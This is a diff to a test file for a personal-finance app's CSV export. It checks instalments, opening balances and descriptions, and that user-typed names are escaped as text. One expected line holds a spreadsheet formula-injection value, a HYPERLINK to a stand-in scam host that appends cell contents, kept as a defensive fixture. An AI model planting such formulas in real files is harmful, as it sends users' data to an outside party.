@@ -37,7 +37,7 @@ it('exports user-written names as text, never as formulas, and amounts as number
   expect(csv.statusCode).toBe(200);
   const line = csv.body.split('\r\n').find((row) => row.startsWith('10/11/2026;'));
   expect(line).toBe(
-    `10/11/2026;"'=HYPERLINK(""https://golpe.example/?d=""&A1,""Clique"")";Aluguel;Despesa;-10,00;"'@SUM(1+1)";Sim`,
+    `10/11/2026;"'=HYPERLINK(""https://golpe.example/?d=""&A1,""Clique"")";Aluguel;Despesa;-10,00;"'@SUM(1+1)";Sim;;`,
   );
 });
 
@@ -113,4 +113,68 @@ it("names invoice payments, their carry and moves between one's own wallets apar
     ['Transferência', '-200,00'],
     ['Transferência', '200,00'],
   ]);
+});
+
+it("holds what the person typed: each row's name and description, which instalment it is, and each wallet's opening balance (audit AC2)", async () => {
+  const account = await createAccount(server);
+  const api = client(server, account.token);
+  const checking = (
+    await data<{ _id: string }>(
+      api('POST', '/payments', {
+        name: 'Conta Itaú',
+        type: 'debit',
+        accountType: 'Conta corrente',
+        value: 1000.55,
+      }),
+      201,
+    )
+  )._id;
+  const expense = (body: object) =>
+    data(
+      api('POST', '/transactions', {
+        transactionType: 'expenses',
+        category: categoryIdOf,
+        payment: checking,
+        paid: true,
+        ...body,
+      }),
+      201,
+    );
+  const categoryIdOf = await categoryId(api, 'Supermercado');
+  await expense({
+    name: 'Farmácia',
+    value: 45.3,
+    date: '2026-11-27',
+    description: 'Remédio da mãe; receita 123',
+  });
+  await expense({ name: 'Sofá', value: 300.01, date: '2026-11-10', lastInstallment: 3, paid: false });
+
+  const csv = await server.app.inject({
+    method: 'POST',
+    url: '/api/users/export_user_story',
+    headers: bearer(account.token),
+  });
+  const [header, ...lines] = csv.body
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .filter(Boolean);
+  expect(header).toBe('Data;Nome;Categoria;Tipo;Valor;Carteira;Pago;Descrição;Parcela');
+  const rows = lines.map((line) => line.split(';'));
+  const opening = rows.filter((row) => row[3] === 'Saldo inicial');
+  expect(opening.map((row) => row.slice(1))).toEqual([
+    ['Saldo inicial', '', 'Saldo inicial', '1000,55', 'Conta Itaú', 'Sim', '', ''],
+  ]);
+  expect(lines.find((line) => line.includes('Farmácia'))).toBe(
+    '27/11/2026;Farmácia;Supermercado;Despesa;-45,30;Conta Itaú;Sim;"Remédio da mãe; receita 123";',
+  );
+  expect(rows.filter((row) => row[1] === 'Sofá').map((row) => [row[4], row[8]])).toEqual([
+    ['-100,01', '1/3'],
+    ['-100,00', '2/3'],
+    ['-100,00', '3/3'],
+  ]);
+  // The wallet's balance is its opening balance plus its paid rows, all in the file.
+  const paidCents = rows
+    .filter((row) => row[5] === 'Conta Itaú' && row[6] === 'Sim')
+    .reduce((sum, row) => sum + Math.round(Number(row[4]?.replace(',', '.')) * 100), 0);
+  expect(paidCents).toBe(100_055 - 4_530);
 });
